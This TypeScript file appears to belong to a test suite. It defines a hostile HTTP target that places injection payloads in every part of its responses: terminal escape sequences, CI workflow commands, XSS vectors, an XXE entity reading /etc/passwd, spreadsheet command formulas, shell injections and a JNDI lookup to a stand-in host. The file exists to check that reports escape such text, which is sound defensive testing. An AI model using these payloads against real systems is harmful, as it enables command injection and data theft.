import type { Asked } from '../server.ts';
import type { HostileTarget } from '../target.ts';
import { answerBytes } from '../writing.ts';

interface Payload {
  readonly id: string;
  readonly does: string;
  readonly promised: string;
  readonly text: string;
}

const terminal = 'No control character of it comes to a terminal; it is shown as an escape.';
const ci = 'No line is one that a CI system takes for a command.';
const quoted = 'It is quoted as each report quotes text, and stays text.';

/** What does something where it is printed as it is. */
const payloads: readonly Payload[] = [
  {
    id: 'terminal-colours',
    does: 'Escape sequences that colour, move the cursor and clear the screen',
    promised: terminal,
    text: '\u001b[2J\u001b[31mred\u001b[0m\u001b[1;1H\u009b31mred\u001b[?25l',
  },
  {
    id: 'terminal-commands',
    does: 'Escape sequences that set titles, links and the clipboard, and ask for answers',
    promised: terminal,
    text: '\u001b]0;title\u0007\u001b]8;;http://elsewhere.test\u0007link\u001b]52;c;ZWNobw==\u0007\u001b[c\u001bP$qm\u001b\\\u0005',
  },
  {
    id: 'terminal-overwriting',
    does: 'Backspaces, carriage returns and deletes that write over what stands there',
    promised: terminal,
    text: `\rCONFORMANT${' '.repeat(60)}\b\b\b\u007f\u0008\u000b\u000c\r\n0 fail`,
  },
  {
    id: 'directions',
    does: 'Marks that turn the direction of text, and characters that nobody sees',
    promised: 'They are shown as escapes.',
    text: '\u202etxet\u2066\u2067\u200f\u2028\u2029\u200b\ufeff\u00ad\u{e0041}',
  },
  {
    id: 'commands-of-github',
    does: 'Workflow commands of GitHub Actions',
    promised: ci,
    text: '\n::error file=a.js,line=1::taken over\n::add-mask::a\n::stop-commands::x\n##[error]taken over\n::set-output name=a::b\r::warning::x',
  },
  {
    id: 'commands-of-azure',
    does: 'Logging commands of Azure Pipelines',
    promised: ci,
    text: '##vso[task.setvariable variable=a;isSecret=false]b ##vso[task.complete result=Succeeded;] ##[section]x',
  },
  {
    id: 'commands-of-others',
    does: 'Service messages of TeamCity, and sections of GitLab and Travis',
    promised: ci,
    text: "\n##teamcity[buildStatus status='SUCCESS' text='taken over']\nsection_start:1:a\r\u001b[0Kb\ntravis_fold:start:a\n",
  },
  {
    id: 'html',
    does: 'Elements, attributes and scripts of HTML',
    promised: quoted,
    text: '"><script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>\'--><!--</style></textarea></title><a href="javascript:alert(1)">x</a>',
  },
  {
    id: 'xml',
    does: 'Ends of sections, entities and declarations of XML',
    promised: quoted,
    text: ']]></failure></testcase><testcase name="x"/><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;&#0;&#x1;<?xml version="1.0"?>\uffff\ufffe',
  },
  {
    id: 'markdown',
    does: 'Links, images, tables, fences and mentions of Markdown',
    promised: quoted,
    text: '\n\n# title\n| a | b |\n|---|---|\n```\n~~~\n![x](http://elsewhere.test/x.png)[y](javascript:alert(1)) <details open> @everyone #1 `` ` ``',
  },
  {
    id: 'formulas',
    does: 'Formulas of spreadsheets, and ends of CSV fields',
    promised: quoted,
    text: '=cmd|\' /C calc\'!A0,"\n+1+1\t@SUM(1+1)*cmd|\' /C calc\'!A0;-2+3"=HYPERLINK("http://elsewhere.test","x")',
  },
  {
    id: 'shell',
    does: 'Commands of a shell, where a curl line could carry them',
    promised: 'No curl line holds text of the target.',
    text: '\'; touch taken-over; \'"$(touch taken-over)`touch taken-over`"\n!touch taken-over\n',
  },
  {
    id: 'formats',
    does: 'Directives of printf, of templates and of logging',
    promised: quoted,
    text: '%s%n%x%1000000d ${7*7} {{7*7}} #{7*7} <%= 7*7 %> ${jndi:ldap://elsewhere.test/a} $& $1 $` $$ \\u001b[31m',
  },
  {
    id: 'placeholders',
    does: "The suite's own placeholders, as if a secret had stood there",
    promised: 'They are told as text, and nothing is put in their place.',
    text: '$CONNECTION_TOKEN $SECOND_CONNECTION_TOKEN $FRESH(a) $DIGITS(b) $HEADER_X',
  },
];

/** One text in every place that an answer has for one, each answer wrong in another way. */
function everywhere(text: string) {
  const field = text.replaceAll(/[^\x20-\x7e]/g, ' ');
  const body = JSON.stringify({
    Id: text,
    AbsoluteTime: text,
    message: text,
    Message: text,
    __type: text,
    code: text,
    [text]: text,
  });
  return {
    answer: ({ socket, nth }: Asked) =>
      void socket.write(
        answerBytes(
          `HTTP/1.1 ${[200, 400, 200, 418, 403, 500][nth % 6] ?? 200} ${field.replaceAll(/[^\x20-\x7e]/g, ' ')}`,
          [
            ['Content-Type', nth % 3 === 0 ? field : 'application/json'],
            ['X-Amzn-ErrorType', field],
            ['Date', field],
            [`X-${field.replaceAll(/[^A-Za-z0-9]/g, '')}`, field],
            ['Retry-After', field],
          ],
          nth % 4 === 0 ? text : body,
        ),
      ),
  };
}

/** Text that does something where a report shows it as it is. */
export const texts: readonly HostileTarget[] = payloads.map(({ id, does, promised, text }) => ({
  id,
  does: `${does}, in every place of an answer.`,
  promised,
  ends: 'nonconformant',
  behaviour: everywhere(text),
}));
